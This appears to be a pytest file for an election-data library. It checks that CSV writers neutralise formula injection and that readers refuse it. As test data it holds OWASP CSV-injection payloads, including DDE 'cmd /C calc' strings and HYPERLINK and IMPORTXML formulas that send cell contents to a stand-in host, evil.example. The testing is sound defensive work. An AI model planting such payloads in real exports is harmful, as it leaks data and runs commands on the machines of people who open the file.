"""No cell a writer exports runs as a spreadsheet formula (OWASP, CSV injection).

The choice (docs/formats/index.md): both. A text cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is refused by every CSV reader and written
with a leading apostrophe by every CSV writer; numbers are never changed, so a
negative coordinate stays ``-12.5``. Every writer is tested here with OWASP's
payloads in every text field its nouns accept.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal

import attrs
import pendulum
import pytest

from electoral.errors import ValidationError, ValidationErrors
from electoral.formats import FORMULA_PREFIXES, smartelect, tallyho
from electoral.model import (
    Ballot,
    Candidate,
    Center,
    Citizen,
    Constituency,
    Gender,
    Office,
    Race,
    Region,
    ResultForm,
    Station,
    SubConstituency,
)
from electoral.registration import allocate_stations, validate_registry_row
from electoral.results import (
    PvpBundle,
    PvpCandidate,
    PvpSubmission,
    TallySetup,
    results_rows,
)
from electoral.testing import demo_records, demo_tally_setup

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
)
"""OWASP's CSV-injection payloads (and the DDE forms); tab and CR come below."""
CONTROL_PAYLOADS = ("\t=1+1", "\r=1+1")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def assert_safe(text: str, payload: str) -> None:
    """No cell starts a formula; the payload is there, behind an apostrophe."""
    found = cells(text)
    dangerous = [c for c in found if c[:1] in FORMULA_PREFIXES and not is_number(c)]
    assert dangerous == []
    assert "'" + payload in found


def setup_with(name: str) -> tuple[TallySetup, list[Center], list[Office], list[Station]]:
    office = Office(id=1, name_en=name, name_ar=name, region=Region.WEST)
    center = Center(
        center_id=31001,
        name_ar=name,
        office_id=1,
        subconstituency_id=31,
        mahalla=name,
        village=name,
        lat=Decimal("-12.5"),
        lon=Decimal("-7.25"),
    )
    station = Station(center_id=31001, number=1, gender=Gender.MALE, registrants=5)
    race = Race(election_level=name, name=name)
    ballot = Ballot(number=117, race=race, subconstituency_ids={31})
    candidate = Candidate(ballot_number=117, candidate_id=1, name_ar=name, order=1)
    setup = TallySetup.build(
        centers=[center],
        stations=[station],
        ballots=[ballot],
        candidates=[candidate],
        offices=[office],
    )
    return setup, [center], [office], [station]


def tallyho_writers(name: str) -> dict[str, str]:
    setup, centers, offices, stations = setup_with(name)
    ballots = list(setup.ballots.values())
    sub = SubConstituency(id=31, name_en=name, name_ar=name, constituency_id=1)
    constituency = Constituency(id=1, name_en=name, name_ar=name)
    form = ResultForm(
        barcode="31001001117",
        ballot_number=117,
        center_id=31001,
        station_number=1,
        gender=Gender.MALE,
    )
    row = next(results_rows(demo_records(demo_tally_setup()), demo_tally_setup()))
    row = row._replace(
        election_level=name, sub_race_type=name, candidate_name=name, candidate_status=name
    )
    submission = PvpSubmission(
        instance_id=name,
        form_id=name,
        barcode="31001001117",
        staff_user_name=name,
        candidates=[PvpCandidate(candidate_id=1)],
    )
    candidates, order = tallyho.write_candidates(
        [c for group in setup.candidates.values() for c in group], ballots=ballots
    )
    return {
        "ballots": tallyho.write_ballots(ballots),
        "subconstituencies": tallyho.write_subconstituencies([sub], [constituency], ballots),
        "centers": tallyho.write_centers(centers, offices=offices, constituencies=[constituency]),
        "stations": tallyho.write_stations(stations, centers=centers),
        "candidates": candidates,
        "result_forms": tallyho.write_result_forms([form], setup=setup),
        "results_export": tallyho.write_results_export([row]),
        "pvp_results": tallyho.write_pvp_results(PvpBundle(submissions=[submission])),
        "ballot_order": order,
    }


def smartelect_writers(name: str) -> dict[str, str]:
    _, centers, offices, _ = setup_with(name)
    citizen = Citizen(
        civil_registry_id=7,
        national_id="119690261935",
        fbr_number="4471",
        first_name=name,
        father_name=name,
        grandfather_name=name,
        family_name=name,
        mother_name=name,
        birth_date=pendulum.Date(1969, 9, 7),
        gender=Gender.MALE,
        address=name,
    )
    row = ["7", *[name] * 5, "1", "7/9/1969", name, "119690261935", "4471", "0", "0", "0"]
    record = validate_registry_row(row, as_of=pendulum.datetime(2026, 1, 1))
    plan = allocate_stations([record], center_id=31001)
    return {
        "centers": smartelect.write_centers(centers, offices={1: offices[0]}),
        "registry_csv": smartelect.write_registry_csv([citizen, record]),
        "station_metadata": smartelect.write_station_metadata(
            [plan],
            centers={31001: centers[0]},
            constituencies={999: Constituency(id=999, name_en=name, name_ar=name)},
            subconstituencies={31: SubConstituency(id=31, name_en=name, name_ar=name)},
            generated_at=pendulum.datetime(2026, 1, 1),
        ),
        "voters_by_national_id": smartelect.write_voters_by_national_id([plan]),
        "voters_by_center_and_station": smartelect.write_voters_by_center_and_station([plan]),
    }


WITH_TEXT = {
    "tallyho": [
        "ballots",
        "subconstituencies",
        "centers",
        "stations",
        "candidates",
        "result_forms",
        "results_export",
        "pvp_results",
    ],
    "smartelect": ["centers", "registry_csv", "station_metadata"],
}
"""The writers that write text; the others write only numbers and identifiers."""

SYSTEMS: dict[str, Callable[[str], dict[str, str]]] = {
    "tallyho": tallyho_writers,
    "smartelect": smartelect_writers,
}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("system", sorted(SYSTEMS))
def test_every_writer_neutralises_every_payload(system: str, payload: str) -> None:
    written = SYSTEMS[system](payload)
    for name in WITH_TEXT[system]:
        assert_safe(written[name], payload)
    for name, text in written.items():
        dangerous = [c for c in cells(text) if c[:1] in FORMULA_PREFIXES and not is_number(c)]
        assert dangerous == [], name


@pytest.mark.parametrize("payload", CONTROL_PAYLOADS)
def test_tab_and_cr_cannot_reach_a_writer(payload: str) -> None:
    """The nouns refuse control characters, so no writer is ever given one."""
    for build in (
        lambda: Center(center_id=31001, name_ar=payload),
        lambda: Office(id=1, name_en=payload, name_ar="x"),
        lambda: Race(election_level=payload, name="x"),
        lambda: PvpSubmission(instance_id=payload, barcode="1"),
        lambda: next(results_rows(demo_records(demo_tally_setup()), demo_tally_setup()))._replace(
            candidate_name=payload
        ),
    ):
        with pytest.raises((ValidationError, ValidationErrors)):
            build()


def test_negative_numbers_stay_numbers() -> None:
    """A negative coordinate is a number: written as it is, never behind an apostrophe."""
    for text in (tallyho_writers("name")["centers"], smartelect_writers("name")["centers"]):
        found = cells(text)
        assert "-12.5" in found
        assert "-7.25" in found
        assert not any(c.startswith("'-") for c in found)


def test_readers_refuse_payloads_in_text_cells() -> None:
    for payload in PAYLOADS + CONTROL_PAYLOADS[:1]:
        quoted = '"' + payload.replace('"', '""') + '"'
        with pytest.raises(ValidationErrors) as info:
            tallyho.read_ballots(f"election_level,sub_type,number\nHoR,{quoted},1\n")
        assert info.value.codes == ("formats.formula",)
        header = ",".join(smartelect.write_centers([]).splitlines()[0].split(","))
        row = f"11001,{quoted},,,1,,,1,1,,,,General,,"
        with pytest.raises(ValidationErrors) as info:
            smartelect.read_centers(
                f"{header}\n{row}\n",
                centers=[],
                office_ids={1},
                constituency_ids={1},
                subconstituency_ids={1},
            )
        assert "formats.formula" in info.value.codes


def test_a_neutralised_cell_reads_back_as_text_with_its_apostrophe() -> None:
    """Round trips hold for everything a reader accepts; a payload comes back marked."""
    text = tallyho.write_ballots([Ballot(number=1, race=Race(election_level="=1", name="x"))])
    (ballot,) = tallyho.read_ballots(text)
    assert ballot.race.election_level == "'=1"


def test_the_sql_dump_is_not_a_spreadsheet() -> None:
    """The dump quotes every name in SQL; it is written as given and read back the same."""
    citizen = attrs.evolve(
        Citizen(
            civil_registry_id=7,
            national_id="119690261935",
            fbr_number="4471",
            first_name="=1+1",
            father_name="b",
            grandfather_name="c",
            family_name="d",
            birth_date=pendulum.Date(1969, 9, 7),
            gender=Gender.MALE,
        ),
    )
    dump = smartelect.write_registry_dump([citizen])
    assert "'=1+1'" in dump
    [record] = smartelect.read_registry_dump(dump, as_of=pendulum.datetime(2026, 1, 1))
    assert record.first_name == "=1+1"
